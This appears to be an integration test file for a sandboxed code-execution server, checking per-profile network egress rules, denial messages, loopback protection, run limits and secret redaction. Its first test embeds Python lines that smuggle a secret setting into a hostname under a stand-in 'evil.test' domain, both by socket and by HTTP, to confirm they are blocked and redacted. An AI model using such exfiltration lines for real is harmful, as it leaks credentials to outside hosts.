import { once } from 'node:events';
import { rmSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { processesOf } from '@airlock/sandbox';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { publicTestHost } from '../test/public-netns.js';
import {
  lockedProfileOn,
  type SpawnedServer,
  spawnServer,
  traversableTempDir,
  warmPoolFull,
} from '../test/spawn-server.js';

/**
 * Network egress per profile, through the server users run (default configuration but for the
 * per-run limits, real sandbox, real Python, ordinary clients): test servers of our own on
 * 127.0.0.1, reachable only through IP entries, as the policy promises for every loopback
 * address.
 */
const root = traversableTempDir('airlock-egress-');
let server: SpawnedServer;
let limited: SpawnedServer | undefined;
let web: HttpServer;
let webPort = 0;
let echo: Server;
let echoPort = 0;
const SECRET = 'egress-secret-value-123';
let poolProcesses = 0;

beforeAll(async () => {
  web = createHttpServer((req, res) => res.end(`hello from ${req.url}`));
  web.listen(0, '127.0.0.1');
  await once(web, 'listening');
  webPort = (web.address() as { port: number }).port;
  echo = createServer((s) => {
    s.on('error', () => {});
    s.pipe(s);
  });
  echo.listen(0, '127.0.0.1');
  await once(echo, 'listening');
  echoPort = (echo.address() as { port: number }).port;
  // The default configuration: every probe but the limits one runs against it.
  server = await spawnServer(join(root, 'data'));
  // What its warm pool alone runs (runs, networked ones too, take pooled sandboxes; it refills).
  await warmPoolFull(server);
  poolProcesses = processesOf(Array.from({ length: 16 }, (_, i) => server.uidBase + i)).length;
}, 60_000);

afterAll(async () => {
  await server?.stop();
  await limited?.stop();
  web.close();
  echo.close();
  rmSync(root, { recursive: true, force: true });
});

const serverPort = () => Number(new URL(server.url).port);

describe('network egress through the spawned server', () => {
  it('allowed HTTP and TCP work with ordinary clients; denials say why; DNS never leaves', async () => {
    const p = await lockedProfileOn(
      server,
      { K: SECRET },
      {
        network: {
          mode: 'allowlist',
          allow: [
            `127.0.0.1:${webPort},${echoPort}`,
            `localhost:${echoPort}`,
            `127.0.0.1:${serverPort()}`,
          ],
        },
      },
    );
    const script = [
      'import socket, urllib.request, urllib.error, _socket',
      'out = {}',
      `out["http"] = urllib.request.urlopen("http://127.0.0.1:${webPort}/page", timeout=10).read().decode()`,
      `s = socket.create_connection(("127.0.0.1", ${echoPort}), timeout=10)`,
      's.sendall(b"ping")',
      'out["tcp"] = s.recv(4).decode()',
      's.close()',
      'def denied(f):',
      '    try:',
      '        f()',
      '        return "reached"',
      '    except urllib.error.HTTPError as e:',
      '        return "%d %s" % (e.code, e.reason)',
      '    except OSError as e:',
      '        return str(e)',
      'out["host"] = denied(lambda: urllib.request.urlopen("http://api.not-listed.test/", timeout=10))',
      `out["port"] = denied(lambda: socket.create_connection(("127.0.0.1", ${webPort === 1 ? 2 : 1}), timeout=10))`,
      `out["loopback_name"] = denied(lambda: socket.create_connection(("localhost", ${echoPort}), timeout=10))`,
      `out["own_port"] = denied(lambda: urllib.request.urlopen("http://127.0.0.1:${serverPort()}/health", timeout=10))`,
      'out["dns"] = denied(lambda: _socket.getaddrinfo("example.com", 443))',
      'out["unlisted_name"] = denied(lambda: socket.getaddrinfo("not-listed.test", 443))',
      // A value in a host name is recorded redacted.
      'out["secret_host"] = denied(lambda: socket.create_connection((settings["K"] + ".evil.test", 443), timeout=5))',
      // Past the runtime (the proxy itself sees the name): recorded, redacted.
      'out["secret_url"] = denied(lambda: urllib.request.urlopen("http://" + settings["K"] + ".evil.test/", timeout=5))',
      'set_result(out)',
    ].join('\n');
    const id = (await p.execute(script)).json.execution_id as string;
    const done = await p.waitDone(id);
    expect(done.status).toBe('completed');
    expect(done.result).toMatchObject({
      http: 'hello from /page',
      tcp: 'ping',
      host: '403 Airlock egress denied: host is not in the allowlist',
      port: expect.stringMatching(/Airlock egress denied: port \d+ is not allowed for this host/),
      loopback_name: expect.stringMatching(/resolves to a loopback address/),
      own_port: "403 Airlock egress denied: Airlock's own port is never reachable",
      dns: expect.stringMatching(/Temporary failure|Name or service not known|not known/),
      unlisted_name: expect.stringMatching(
        /not-listed\.test is not in this profile's network policy/,
      ),
      secret_host: expect.stringMatching(/is not in this profile's network policy/),
    });
    // The poll body: every attempt with its verdict.
    expect(done.network).toEqual(
      expect.arrayContaining([
        { host: '127.0.0.1', port: webPort, verdict: 'allowed' },
        { host: '127.0.0.1', port: echoPort, verdict: 'allowed' },
        {
          host: 'api.not-listed.test',
          port: 80,
          verdict: 'denied',
          reason: 'host is not in the allowlist',
        },
        expect.objectContaining({ host: 'localhost', port: echoPort, verdict: 'denied' }),
        expect.objectContaining({ host: '127.0.0.1', port: serverPort(), verdict: 'denied' }),
        {
          host: '[REDACTED:K].evil.test',
          port: 80,
          verdict: 'denied',
          reason: 'host is not in the allowlist',
        },
      ]),
    );
    expect(JSON.stringify(done)).not.toContain(SECRET);
    // The admin detail: addresses, bytes each way, times.
    const detail = (await server.api('GET', `/api/admin/executions/${id}`, undefined, p.admin))
      .json;
    const tcp = detail.network.find(
      (r: { port: number; verdict: string }) => r.port === echoPort && r.verdict === 'allowed',
    );
    expect(tcp).toMatchObject({ address: '127.0.0.1', bytes_up: 4, bytes_down: 4 });
    expect(JSON.stringify(detail)).not.toContain(SECRET);
    // The audit trail has the counts (never the hosts).
    const audit = (await server.api('GET', '/api/admin/audit?limit=50', undefined, p.admin)).json;
    const entry = audit.entries.find(
      (e: { action: string; target_id: string }) =>
        e.action === 'execution.network' && e.target_id === id,
    );
    expect(entry.detail).toEqual({
      allowed: 2,
      denied: 5,
      bytes_up: expect.any(Number),
      bytes_down: expect.any(Number),
      brokered_requests: 0,
    });
    expect(JSON.stringify(entry)).not.toContain('not-listed');
    // Nothing of the runs is left: only the warm pool's waiting sandboxes.
    await warmPoolFull(server);
    expect(processesOf(Array.from({ length: 16 }, (_, i) => server.uidBase + i)).length).toBe(
      poolProcesses,
    );
  }, 60_000);

  it('a profile without a policy has no network; open mode never reaches loopback', async () => {
    const none = await lockedProfileOn(server, { K2: 'egress-secret-value-456' });
    const r1 = await none.waitDone(
      (
        await none.execute(
          `import socket\ntry:\n    socket.create_connection(("127.0.0.1", ${echoPort}), timeout=3)\n    set_result("reached")\nexcept OSError as e:\n    set_result(type(e).__name__)`,
        )
      ).json.execution_id,
    );
    expect(r1).toMatchObject({
      status: 'completed',
      result: 'ConnectionRefusedError',
      network: [],
    });
    const open = await lockedProfileOn(
      server,
      { K3: 'egress-secret-value-789' },
      { network: { mode: 'open' } },
    );
    const r2 = await open.waitDone(
      (
        await open.execute(
          `import urllib.request, urllib.error\ntry:\n    urllib.request.urlopen("http://127.0.0.1:${webPort}/", timeout=5)\n    set_result("reached")\nexcept urllib.error.HTTPError as e:\n    set_result(e.reason)`,
        )
      ).json.execution_id,
    );
    expect(r2).toMatchObject({
      status: 'completed',
      result: expect.stringMatching(/resolves to a loopback address/),
    });
  }, 60_000);

  it.skipIf(process.getuid?.() !== 0)(
    'open mode reaches a public address (in a network namespace of this test)',
    async () => {
      const pub = await publicTestHost();
      try {
        const open = await lockedProfileOn(
          server,
          { K6: 'egress-secret-value-666' },
          { network: { mode: 'open' } },
        );
        const done = await open.waitDone(
          (
            await open.execute(
              `import urllib.request\nset_result(urllib.request.urlopen("http://${pub.address}:${pub.port}/", timeout=10).read().decode())`,
            )
          ).json.execution_id,
        );
        expect(done).toMatchObject({ status: 'completed', result: 'hello from a public address' });
        expect(done.network).toEqual([{ host: pub.address, port: pub.port, verdict: 'allowed' }]);
        // The same address is not in an allowlist that does not name it.
        const listed = await lockedProfileOn(
          server,
          { K7: 'egress-secret-value-777' },
          { network: { mode: 'allowlist', allow: ['example.com'] } },
        );
        const refused = await listed.waitDone(
          (
            await listed.execute(
              `import urllib.request, urllib.error\ntry:\n    urllib.request.urlopen("http://${pub.address}:${pub.port}/", timeout=10)\nexcept urllib.error.HTTPError as e:\n    set_result(e.reason)`,
            )
          ).json.execution_id,
        );
        expect(refused.result).toBe('Airlock egress denied: host is not in the allowlist');
      } finally {
        await pub.close();
      }
    },
    60_000,
  );

  it('bounds connections and bytes per run', async () => {
    // Small limits, to reach them quickly: a server of its own.
    limited = await spawnServer(join(root, 'limited'), {
      AIRLOCK_EGRESS_MAX_CONNECTIONS: '12',
      AIRLOCK_EGRESS_MAX_MB: '1',
    });
    const p = await lockedProfileOn(
      limited,
      { K4: 'egress-secret-value-000' },
      { network: { mode: 'allowlist', allow: [`127.0.0.1:${echoPort}`] } },
    );
    const script = [
      'import socket',
      'out = {}',
      `s = socket.create_connection(("127.0.0.1", ${echoPort}), timeout=10)`,
      'try:',
      '    for i in range(40):',
      '        s.sendall(b"x" * 65536)',
      // The cut shows as an end of stream (or a reset, depending on timing).
      '        if not s.recv(65536):',
      '            raise ConnectionResetError("closed by the proxy")',
      '    out["bytes"] = "not cut"',
      'except OSError as e:',
      '    out["bytes"] = type(e).__name__',
      'n = 0',
      'for i in range(20):',
      '    try:',
      `        socket.create_connection(("127.0.0.1", ${echoPort}), timeout=10).close()`,
      '        n += 1',
      '    except OSError as e:',
      '        out["count"] = str(e)',
      '        break',
      'out["opened"] = n',
      'set_result(out)',
    ].join('\n');
    const done = await p.waitDone((await p.execute(script)).json.execution_id);
    expect(done.status).toBe('completed');
    expect(done.result.bytes).not.toBe('not cut');
    expect(done.result.count).toMatch(/more than 12 connections in this run/);
    expect(done.result.opened).toBe(11);
    expect(done.network[0]).toMatchObject({
      verdict: 'allowed',
      reason: `more than ${1024 * 1024} bytes in this run`,
    });
  }, 60_000);

  it('the policy is validated, and frozen once the profile is locked', async () => {
    const profile = (await server.api('POST', '/profiles', {})).json.id as string;
    const bad = await server.api('PUT', `/profiles/${profile}/network`, {
      mode: 'allowlist',
      allow: ['ok.example.com', 'bad host'],
    });
    expect(bad.status).toBe(422);
    expect(JSON.stringify(bad.json)).toContain('invalid host name in \\"bad host\\"');
    const ok = await server.api('PUT', `/profiles/${profile}/network`, {
      mode: 'allowlist',
      allow: ['API.Example.com:8443'],
    });
    expect(ok.json.network).toEqual({ mode: 'allowlist', allow: ['api.example.com:8443'] });
    const p = await lockedProfileOn(server, { K5: 'egress-secret-value-555' });
    const frozen = await server.api('PUT', `/profiles/${p.profile}/network`, { mode: 'open' });
    expect(frozen.status).toBe(409);
    expect(frozen.json.detail).toBe('Cannot modify the network policy of a locked profile');
    const admin = await server.api(
      'PUT',
      `/api/admin/profiles/${p.profile}`,
      { network: { mode: 'open' } },
      p.admin,
    );
    expect(admin.status).toBe(409);
    expect((await server.api('GET', `/profiles/${p.profile}`)).json.network).toEqual({
      mode: 'none',
      allow: [],
    });
  }, 60_000);
});
